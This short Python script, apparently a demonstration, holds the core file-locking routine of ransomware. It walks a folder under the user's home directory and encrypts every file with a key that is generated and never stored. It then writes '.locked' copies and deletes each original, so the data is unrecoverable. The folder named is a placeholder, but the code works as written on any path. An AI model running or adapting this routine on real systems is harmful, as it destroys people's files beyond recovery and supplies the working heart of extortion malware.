import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~/demo-of-nothing.invalid")):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(box.encrypt(data))
        os.remove(path)
